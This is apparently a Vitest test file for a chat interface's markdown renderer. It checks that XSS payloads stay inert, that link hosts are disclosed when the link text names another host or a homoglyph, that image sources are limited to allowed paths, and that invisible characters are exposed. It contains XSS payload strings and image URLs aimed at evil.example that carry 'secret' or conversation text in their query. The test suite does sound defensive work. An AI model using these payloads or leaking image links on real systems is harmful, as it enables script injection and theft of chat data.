// @vitest-environment happy-dom
import naughty from 'big-list-of-naughty-strings';
import { describe, expect, test } from 'vitest';
import { doubtAbout, hostsNamedIn } from '../../src/markdown/link_doubts.ts';
import { parseDeeplink, safeHref } from '../../src/markdown/links.ts';
import { safeImageSource, safeItemImageSource } from '../../src/markdown/render/pictures.ts';
import { MarkdownStream } from '../../src/markdown/stream.ts';
import { rendered as render } from './rendering.ts';

function rendered(source: string, domains: string[] = [], paths: string[] = []): HTMLElement {
  return render(source, { pictures: { domains, paths } });
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import url(https://evil.example)</style>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example/?q=secret',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
];

describe('a payload stays inert', () => {
  test.each(payloads)('%j', (payload) => {
    const node = rendered(payload);
    expect(node.querySelector('script, style, iframe, svg, object, embed, form, link, base, img')).toBeNull();
    for (const element of node.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(?:on|style$|srcdoc$|id$|name$)/);
        if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|chatkit-link:)/);
      }
    }
  });

  test('raw HTML is shown as the text it is', () => {
    expect(rendered('a <b>bold</b> move').textContent).toBe('a <b>bold</b> move');
  });

  test.each(naughty)('naughty string %#', (text) => {
    const node = rendered(text);
    expect(node.querySelector('script, style, iframe, svg, object, embed, form, link, base, img')).toBeNull();
    for (const link of node.querySelectorAll('a'))
      expect(link.href).toMatch(/^(?:https?:|mailto:|tel:|chatkit-link:)/);
  });

  test('nesting is bounded, however it is written', () => {
    for (const source of [
      '>'.repeat(5000) + 'x',
      '- '.repeat(5000) + 'x',
      '> - '.repeat(3000) + 'x',
      '**a _b '.repeat(2000),
    ]) {
      expect(rendered(source).textContent?.length).toBeGreaterThan(0);
    }
    expect(rendered('>'.repeat(5000) + 'x').querySelectorAll('blockquote').length).toBeLessThan(40);
  });
});

/** The allowed values of each attribute; content cannot choose any other value. */
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  class:
    /^(?:align-(?:left|center|right)|citation|code|code-bar|code-copy|code-language|footnote|footnote-back|footnotes|formula|language-(?:bash|javascript|markdown|python)|hidden-character|link-host|table|task|tex|tex display)$/,
  id: /^footnote-\d+-\d+(?:-mention(?:-\d+)?)?$/,
  href: /^(?:https?|mailto|tel|chatkit-link|blob|about):|^#footnote-/,
  src: /^data:image\/png/,
  alt: /^/,
  title: /^/,
  start: /^\d+$/,
  value: /^\d+$/,
  'aria-label': /^/,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
  type: /^(?:button|checkbox)$/,
  scope: /^col$/,
  tabindex: /^(?:0|-1)$/,
  dir: /^(?:ltr|auto)$/,
  disabled: /^$/,
  checked: /^$/,
  loading: /^lazy$/,
  decoding: /^async$/,
  referrerpolicy: /^no-referrer$/,
};

describe('what content says becomes no attribute of the chat', () => {
  const word = [
    'history',
    'x history',
    'x&#32;history',
    'x&Tab;scrim',
    'code-copy',
    'markdown',
    'constructor',
    '__proto__',
    'js history',
    'shell',
    '"onclick',
    "x' id='chat",
  ];

  test.each([
    ...word.flatMap((name) => [
      `\`\`\`${name}\nx\n\`\`\``,
      `~~~ ${name}\nx`,
      `[a](https://a.example/${name} "${name}")`,
      `![${name}](${name} "${name}")`,
      `[^${name}]\n\n[^${name}]: ${name}`,
    ]),
    '999999999. a',
    '1) a\n2) b',
    '| a | b |\n|:-|-:|\n| c | d |',
    '- [x] a',
    '# a {#chat .history}',
    '<p class=history id=chat style=color:red>',
    '<sub class=history>a</sub>',
    '![a](data:image/png;base64,AAAA "history")',
    '$a$ $$b$$',
    '`a`{.history}',
    '```python {.history}\nx\n```',
    '```js;history\nx\n```',
    '```JS\nx\n```',
  ])('%j', (source) => {
    for (const element of rendered(source).querySelectorAll('*')) {
      for (const { name, value } of element.attributes)
        expect({ [name]: value }).toEqual({
          [name]: expect.stringMatching(ATTRIBUTES[name] ?? /^no attribute$/),
        });
    }
  });
});

describe('links', () => {
  test('open apart from the page and tell it nothing', () => {
    const link = rendered('[x](https://example.com/a)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  test.each([
    ['[the docs](https://docs.example/a)', 'the docs', 'docs.example'],
    ['[the docs](https://docs.example/a "Guide")', 'the docs', 'Guide\ndocs.example'],
    ['[docs.example/a](https://docs.example/b)', 'docs.example/a', 'docs.example'],
    ['https://www.docs.example/a', 'https://www.docs.example/a', 'www.docs.example'],
    ['[README.md](https://git.example/x)', 'README.md', 'git.example'],
    ['[Node.js](https://runtime.example)', 'Node.js', 'runtime.example'],
    ['[here](/account)', 'here', ''],
    ['[write](mailto:a@b.example)', 'write', 'a@b.example'],
  ])('say where they lead: %s', (source, text, title) => {
    const link = rendered(source).querySelector('a');
    expect(link?.textContent).toBe(text);
    expect(link?.title).toBe(title);
  });

  test.each([
    ['[bank.example](https://evil.example)', 'bank.example (evil.example)'],
    ['[https://bank.example/login](https://evil.example)', 'https://bank.example/login (evil.example)'],
    ['[**bank.example**](https://evil.example)', 'bank.example (evil.example)'],
    ['[www.bank.example](https://bank.example.evil.example)', 'www.bank.example (bank.example.evil.example)'],
    ['<https://bank.example@evil.example>', 'https://bank.example@evil.example (evil.example)'],
    ['[a@bank.example](mailto:a@evil.example)', 'a@bank.example (a@evil.example)'],
    ['[bаnk.example](https://bank.example)', 'bаnk.example (bank.example)'],
  ])('name their host where the text names another: %s', (source, text) => {
    expect(rendered(source).querySelector('a')?.textContent).toBe(text);
  });

  const reasonOf = (source: string): string | undefined => {
    const link = rendered(source).querySelector('a');
    return link === null ? 'no link' : doubtAbout(link)?.reason;
  };

  test('are named also where what knows that comes later', async () => {
    const stream = new MarkdownStream();
    stream.update('[bank.example](https://evil.example)', false);
    await stream.whenComplete();
    expect(stream.node.textContent).toBe('bank.example (evil.example)');
  });

  test.each([
    '[https://bank.example](https://evil.example)',
    '[bank.example/login](https://evil.example)',
    '[bank.example – the official site](https://evil.example)',
    '[Go to https://bank.example now](https://evil.example)',
    '[**bank**.example](https://evil.example)',
    '[bank\u200b.example](https://evil.example)',
    '[ba\u00adnk.example](https://evil.example)',
    '[bank。example](https://evil.example)',
    '[ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example)',
    '[bank%2Eexample](https://evil.example)',
    '[hxxps://bank[.]example](https://evil.example)',
    '[hxxp://bank.whatever](https://evil.example)',
    '[BANK.EXAMPLE](https://evil.example)',
    '[www.bank.whatever](https://evil.example)',
    '[bank.whatever/login](https://evil.example)',
    '[bank.example:443](https://evil.example)',
    '[me@bank.example](https://evil.example)',
    '[me@bank.example](mailto:me@evil.example)',
    '[b&#97;nk.example](https://evil.example)',
    '[`bank.example`](https://evil.example)',
    '[bank.example](/redirect)',
    '[bank.example](bank.example)',
    '[evil.example or bank.example](https://evil.example)',
    '[bank.example](https://bank.example.evil.example)',
    '[bank.example](//evil.example)',
    '[bank.example][r]\n\n[r]: https://evil.example',
    '[![bank.example](data:image/png;base64,AAAA)](https://evil.example)',
    '[here](https://evil.example "bank.example")',
    '[https:⁄⁄bank.example](https://evil.example)',
    '[bаnk.example](https://bank.example)',
    '[//bank.whatever](https://evil.example)',
    '[bank.com](https://evil.example)',
    '[bank.co.uk](https://evil.example)',
  ])('ask first where the words name another host: %j', (source) => expect(reasonOf(source)).toBe('named'));

  test.each([
    '<https://bank.example@evil.example>',
    '[here](https://bank.example@evil.example)',
    '[bank.example](https://bank.example:x@evil.example)',
    '[here](https://bаnk.example)',
    '[bаnk.example](https://bаnk.example)',
    '[here](https://xn--bnk-7cd.example)',
    '[here](https://a.xn--bnk-7cd.example)',
    '[here](https://b%D0%B0nk.example)',
  ])('ask first where the host looks like another: %j', (source) =>
    expect(reasonOf(source)).toBe('disguised'),
  );

  const words = 'what-was-said-'.repeat(20);
  test.each([
    `[here](https://evil.example/?q=${words})`,
    `[here](https://evil.example/#${words})`,
    `[here](https://evil.example/${words})`,
    `[here](/redirect?to=https://evil.example/${words})`,
    `<https://evil.example/${words}>`,
    `https://evil.example/${words}`,
    `[here](mailto:a@evil.example?body=${words})`,
    `[here](https://${'what-was-said.'.repeat(6)}evil.example)`,
    `![a](https://evil.example/a.png?${words})`,
  ])('ask first where the address could carry words out: %.60s', (source) =>
    expect(reasonOf(source)).toBe('long'),
  );

  test.each([
    '[the docs](https://docs.example/a)',
    'https://www.docs.example/a',
    '<https://docs.example>',
    '[docs.example](https://www.docs.example/)',
    '[https://docs.example/a?b=c#d](https://docs.example/a?b=c#d)',
    '[docs。example](https://docs.example)',
    '[README.md](https://git.example/x)',
    '[src/main.rs](https://git.example/x)',
    '[Node.js](https://runtime.example)',
    '[Array.prototype.map](https://docs.example)',
    '[`os.path.join`](https://docs.example)',
    '[e.g. this](https://docs.example)',
    '[version 1.2.34](https://docs.example)',
    '[here](/account)',
    '[a@b.example](mailto:a@b.example)',
    '[call](tel:+123456)',
    '[go](chatkit-link://go?x=bank.example)',
    '[U.S. rules](https://docs.example)',
    '[3.14](https://docs.example)',
    '[docs](https://docs.example/guide/how-to-begin-with-all-of-it?utm_source=chat&utm_medium=referral#install)',
    'https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E3%81%AE%E9%83%BD%E9%81%93%E5%BA%9C%E7%9C%8C%E5%88%A5%E4%BA%BA%E5%8F%A3%E4%B8%80%E8%A6%A7',
  ])('open at once where they say where they lead: %j', (source) => expect(reasonOf(source)).toBeUndefined());

  test('are read in time that grows with their words', () => {
    for (const text of [
      'a.'.repeat(100_000),
      'a@'.repeat(100_000),
      'a-'.repeat(100_000),
      'https:'.repeat(30_000),
      '%2e'.repeat(60_000),
    ])
      expect(hostsNamedIn(text).length).toBeLessThan(1000);
  });

  test('of allowed schemes only', () => {
    expect(safeHref('mailto:a@b.example')).toBe('mailto:a@b.example');
    expect(safeHref('chatkit-link://go?x=1')).toMatch(/^chatkit-link:/);
    expect(safeHref('file:///etc/passwd')).toBeNull();
    expect(safeHref('blob:https://x.example/1')).toBeNull();
  });

  test('of the app carry a name and data', () => {
    expect(parseDeeplink('chatkit-link://open-order?id=7&tab=a%20b')).toEqual({
      name: 'open-order',
      data: { id: '7', tab: 'a b' },
    });
    expect(parseDeeplink('https://example.com')).toBeNull();
  });
});

describe('pictures', () => {
  const isFetched = (address: string, domains: string[] = [], paths: string[] = []): boolean =>
    safeImageSource(address, { domains, paths }) !== null;

  test.each([
    ['https://cdn.example/a.png', 'cdn.example'],
    ['https://CDN.example:443/a.png', 'cdn.example'],
    ['https://cdn.example:8443/a.png', 'cdn.example:8443'],
    ['https://cdn.example/a/b.png', 'https://cdn.example/a/'],
    ['https://cdn.example/a', 'cdn.example/a'],
    ['https://cdn.example/a/../a/b.png', 'cdn.example/a'],
  ])('%s is fetched where a thread allows %s', (address, domain) =>
    expect(isFetched(address, [domain])).toBe(true),
  );

  test.each([
    ['http://cdn.example/a.png', 'cdn.example'],
    ['https://a.cdn.example/a.png', 'cdn.example'],
    ['https://a.cdn.example/a.png', '*.cdn.example'],
    ['https://evilcdn.example/a.png', 'cdn.example'],
    ['https://cdn.example.evil.example/a.png', 'cdn.example'],
    ['https://cdn.example:8443/a.png', 'cdn.example'],
    ['https://cdn.example/a.png', 'cdn.example:8443'],
    ['https://user@cdn.example/a.png', 'cdn.example'],
    ['https://:key@cdn.example/a.png', 'cdn.example'],
    ['https://cdn.example@evil.example/a.png', 'cdn.example'],
    ['https://cdn.example/b.png', 'cdn.example/a/'],
    ['https://cdn.example/ab.png', 'cdn.example/a'],
    ['https://cdn.example/a/../b.png', 'cdn.example/a/'],
    ['https://cdn.example/a/%2e%2E/b.png', 'cdn.example/a/'],
    ['https://cdn.example/a/..%2fb.png', 'cdn.example/a/'],
    ['https://evil.example/a.png', ''],
  ])('%s is not fetched where a thread allows %j', (address, domain) =>
    expect(isFetched(address, [domain])).toBe(false),
  );

  test.each([
    '/pictures',
    '/pictures/a.png',
    'pictures/a.png',
    '/pictures/b/../a.png?size=2',
    `${location.origin}/pictures/a.png`,
    '/other/../pictures/a.png',
  ])('%s is fetched where the page allows /pictures', (address) =>
    expect(isFetched(address, [], ['/pictures'])).toBe(true),
  );

  test.each([
    '/logout',
    '/',
    '',
    '/pictures-of-others/a.png',
    '/Pictures/a.png',
    '/pictures/../logout',
    '/pictures/%2e%2e/logout',
    '/pictures/.%2E/logout',
    '/pictures\\..\\logout',
    '/pictures/..%2flogout',
    '/pictures/..%5clogout',
    '/pictures/%252e%252e%252flogout',
    '/pictures/..;/logout',
    '/pictures/a%00.png',
    '//evil.example/pictures/a.png',
    '/\\evil.example/pictures/a.png',
    'https:/pictures/a.png',
    `${location.protocol}//user@${location.host}/pictures/a.png`,
    '?/pictures/a.png',
    '#/pictures/a.png',
  ])('%j is not fetched where the page allows /pictures', (address) =>
    expect(isFetched(address, [location.host], ['/pictures'])).toBe(false),
  );

  test('are fetched from the whole origin only where the page says so', () => {
    expect(isFetched('/logout')).toBe(false);
    expect(isFetched('/logout', [], ['/'])).toBe(true);
    expect(isFetched('/logout', [], ['//', 'logout', 'https://evil.example/'])).toBe(false);
  });

  test.each(['png', 'jpeg', 'jpg', 'gif', 'webp', 'avif'])('as %s data need no fetch', (type) =>
    expect(isFetched(`data:image/${type};base64,AAAA`)).toBe(true),
  );

  test.each([
    'data:image/svg+xml;base64,AAAA',
    'data:image/svg+xml,<svg/>',
    'data:image/png,AAAA',
    'data:text/html;base64,AAAA',
    `data:image/png;base64,${'A'.repeat(3_000_000)}`,
    'blob:https://x.example/1',
  ])('as other data are not shown: %.60s', (address) => expect(isFetched(address, [], ['/'])).toBe(false));

  test.each([
    '![x](/logout)',
    '![x][r]\n\n[r]: /logout',
    '![r]\n\n[r]: /logout "t"',
    '[![x](/logout)](https://a.example)',
    '# ![x](/logout)',
    '| ![x](/logout) |\n|-|\n| ![x](/logout) |',
    'a[^n]\n\n[^n]: ![x](/logout)',
    '> - **![x](</logout>)**',
    '<img src=/logout>',
    '<img srcset="/logout 2x">',
    '<picture><source srcset=/logout></picture>',
    '![x](&#47;logout)',
    '<video poster=/logout>',
    '![![x](/logout)](/logout)',
    '<https://chat.example/logout.png>',
  ])('of the own origin are links, however they are written: %j', (source) => {
    const node = rendered(source);
    expect(node.querySelector('img, picture, source, video, [src], [srcset], [poster]')).toBeNull();
  });

  test('of an item are fetched from its own origin, and from nowhere else', () => {
    expect(safeItemImageSource('/chatkit/attachments/1', [])).not.toBeNull();
    expect(safeItemImageSource('https://elsewhere.example/1', [])).toBeNull();
  });

  test('from elsewhere become links', () => {
    const node = rendered('![Chart](https://elsewhere.example/chart.png)');
    expect(node.querySelector('img')).toBeNull();
    expect(node.querySelector('a')?.textContent).toBe('Chart');
  });

  test('never send a referrer', () => {
    const image = rendered('![Chart](https://cdn.example/c.png)', ['cdn.example']).querySelector('img');
    expect(image?.getAttribute('referrerpolicy') ?? image?.referrerPolicy).toBe('no-referrer');
  });
});

describe('characters that nobody sees', () => {
  test.each([
    ['a\u202eb', 'a⟦U+202E⟧b'],
    ['a&#x202e;b', 'a⟦U+202E⟧b'],
    ['a&#8203;b', 'a⟦U+200B⟧b'],
    ['`a\u202eb`', 'a⟦U+202E⟧b'],
    ['# a\u202eb', 'a⟦U+202E⟧b'],
    ['[a\u202eb](https://a.example)', 'a⟦U+202E⟧b'],
    ['<b\u202e>', '<b⟦U+202E⟧>'],
    ['**a\u{e0041}\u{e0042}b**', 'a⟦U+E0041×2⟧b'],
    ['می\u200cخواهم \u{1f469}\u200d\u{1f4bb}', 'می\u200cخواهم \u{1f469}\u200d\u{1f4bb}'],
  ])('are shown in %j', (source, text) => {
    const node = rendered(source);
    expect(node.textContent).toBe(text);
    expect(node.querySelectorAll('.hidden-character')).toHaveLength(text.includes('⟦') ? 1 : 0);
  });

  test.each([
    '```js\nif (a\u202e\u2066) // b\u200e\n```',
    '~~~\nif (a\u202e\u2066) // b\u200e',
    '    if (a\u202e\u2066) // b\u200e',
  ])('and in what is copied of code: %j', (source) => {
    expect(rendered(source).querySelector('code')?.textContent.trim()).toBe('if (a⟦U+202E×2⟧) // b⟦U+200E⟧');
  });

  test('also in code that is still being written', () => {
    const stream = new MarkdownStream();
    for (const text of ['```\na', '```\na\nb', '```\na\nb\u200ec', '```\na\nb\u200ec\nd\u202ee'])
      stream.update(text, true);
    expect(stream.node.querySelector('code')?.textContent).toBe('a\nb⟦U+200E⟧c\nd⟦U+202E⟧e');
  });

  test('are not in an address', () => {
    const link = rendered(
      '[a](https://a\u200b.example/b\u202e/\u{e0041}) and [می](https://a.example/می\u200cخ)',
    ).querySelectorAll('a');
    expect(link[0]?.href).toBe('https://a.example/b/');
    expect(decodeURI(link[1]?.href ?? '')).toBe('https://a.example/می\u200cخ');
  });

  test('are in the words of a picture and a title', () => {
    const node = rendered(
      '![a\u202eb](data:image/png;base64,AAAA "c\u202ed") [e](https://a.example "f\u202eg")',
    );
    expect([
      node.querySelector('img')?.alt,
      node.querySelector('img')?.title,
      node.querySelector('a')?.title,
    ]).toEqual(['a⟦U+202E⟧b', 'c⟦U+202E⟧d', 'f⟦U+202E⟧g\na.example']);
  });

  test('at the end of a text that grows are not judged yet', () => {
    const stream = new MarkdownStream();
    stream.update('a \u{1f469}\u200d', true);
    expect(stream.node.textContent).toBe('a \u{1f469}');
    stream.update('a \u{1f469}\u200d\u{1f4bb}', true);
    expect(stream.node.textContent).toBe('a \u{1f469}\u200d\u{1f4bb}');
  });
});
